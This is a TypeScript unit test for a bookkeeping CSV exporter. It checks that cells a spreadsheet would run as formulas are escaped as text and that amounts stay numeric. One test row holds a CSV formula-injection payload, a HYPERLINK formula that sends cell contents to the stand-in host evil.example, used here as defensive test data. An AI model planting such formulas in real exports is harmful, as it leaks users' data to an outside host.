import { csv } from './books-files';

describe('books as CSV', () => {
  it('keeps text that a spreadsheet would run as a formula as text, and amounts as numbers', () => {
    const file = csv(
      ['description', 'memo', 'amount'],
      [
        ['=HYPERLINK("http://evil.example/?"&A1,"lihat")', '+62811', -150_000n],
        ['@SUM(A1:A9)', '-koreksi', 0],
        ['\tsetoran', '\r=1+1', null],
        ['setoran tunai', 'a=b', 2_500n],
      ],
    );
    expect(file.split('\r\n')).toEqual([
      'description,memo,amount',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""lihat"")",'+62811,-150000`,
      `'@SUM(A1:A9),'-koreksi,0`,
      `'\tsetoran,"'\r=1+1",`,
      'setoran tunai,a=b,2500',
      '',
    ]);
  });
});
